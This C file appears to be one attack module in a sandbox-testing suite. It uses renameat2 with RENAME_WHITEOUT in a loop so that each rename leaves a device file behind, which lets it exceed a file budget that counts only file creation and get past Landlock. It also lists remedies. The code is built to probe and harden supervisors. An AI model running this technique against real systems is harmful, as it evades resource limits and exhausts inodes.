// SPDX-License-Identifier: MIT
/*
 * whiteouts.c - a rename that makes a file.
 *
 * Goal:  more files than the budget.
 * Means: renameat2(2) with RENAME_WHITEOUT, which any user may call since Linux 5.8, leaves a
 *        device file under the old name. A supervisor that counts what makes files does not count
 *        what only moves them, and Landlock asks for no right to make a device.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { FILES = 1900 };

static enum claim run(const struct brief *b)
{
	const char *dir = getenv("TMPDIR");
	char from[16] = "n-0", to[16];
	int fd;

	if (chdir(dir ? dir : "/tmp"))
		return failed("chdir");
	fd = open(from, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0)
		return failed("open");
	attempting(b);
	for (int i = 1; i <= FILES; i++) {
		snprintf(to, sizeof(to), "n-%d", i);
		if (syscall(SYS_renameat2, AT_FDCWD, from, AT_FDCWD, to, 4 /* RENAME_WHITEOUT */))
			return denied("renameat2");
		strcpy(from, to);
	}
	return hold();
}

const struct attack attack = {
	.effect = "more files than the budget",
	.means = "renameat2(2) with RENAME_WHITEOUT: each rename leaves a device file behind",
	.oracle = "usage:inodes",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "refuse the flag; count renames that have it; a quota on inodes",
	.refs = (const char *const[]){ "rename(2): RENAME_WHITEOUT", NULL },
	.run = run,
};
